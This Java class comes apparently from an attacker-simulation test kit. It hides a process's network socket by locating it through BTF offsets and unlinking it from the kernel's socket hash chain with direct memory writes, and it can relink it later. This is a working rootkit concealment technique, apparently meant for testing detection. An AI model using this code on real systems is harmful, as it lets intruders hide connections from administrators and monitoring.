package dev.yagura.testkit.attacker;

import dev.yagura.testkit.attacker.Intrusion.HiddenSocket;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.Optional;

/** The chains by which a kernel lists IP sockets. */
final class SocketTable {
    private static final int PREVIOUS = Long.BYTES;

    /** Of TCP's chains the last link is an odd number, not 0. */
    private static final int NULLS_BIT = 1;

    private final KernelMemory memory;
    private final BtfOffsets btf;

    SocketTable(KernelMemory memory, BtfOffsets btf) {
        this.memory = memory;
        this.btf = btf;
    }

    /** Takes a socket out of its chain, and leaves its own links as they are. */
    HiddenSocket hide(long taskGva, int fd) throws IOException {
        long sock = sock(taskGva, fd);
        long node = sock + offset("sock_common", "skc_node");
        long next = memory.u64(node);
        long slot = memory.u64(node + PREVIOUS);
        if (slot == 0 || memory.u64(slot) != node) {
            throw new IOException("socket at 0x%x: is in no chain".formatted(sock));
        }
        memory.write64(slot, next);
        if (isLink(next)) {
            memory.write64(next + PREVIOUS, slot);
        }
        return new HiddenSocket(sock, node, slot);
    }

    /** Puts a socket back, if its place is as it was left. */
    void show(HiddenSocket hidden) throws IOException {
        long next = memory.u64(hidden.nodeGva());
        if (memory.u64(hidden.slotGva()) == next) {
            memory.write64(hidden.slotGva(), hidden.nodeGva());
            if (isLink(next)) {
                memory.write64(next + PREVIOUS, hidden.nodeGva());
            }
        }
    }

    private static boolean isLink(long next) {
        return next != 0 && (next & NULLS_BIT) == 0;
    }

    private long sock(long taskGva, int fd) throws IOException {
        long files = memory.u64(taskGva + offset("task_struct", "files"));
        long table = memory.u64(files + offset("files_struct", "fdt"));
        long array = memory.u64(table + offset("fdtable", "fd"));
        long file = memory.u64(array + (long) fd * Long.BYTES);
        if (file == 0) {
            throw new IOException("file %d: is not open".formatted(fd));
        }
        long socket = memory.u64(file + offset("file", "private_data"));
        if (socket == 0) {
            throw new IOException("file %d: is no socket".formatted(fd));
        }
        return memory.u64(socket + offset("socket", "sk"));
    }

    private long offset(String struct, String member) throws IOException {
        Map<String, Long> offsets =
                btf.find(struct, List.of(member))
                        .orElseThrow(() ->
                                new IOException("BTF: found no %s.%s".formatted(struct, member)));
        return Optional.ofNullable(offsets.get(member)).orElseThrow();
    }
}
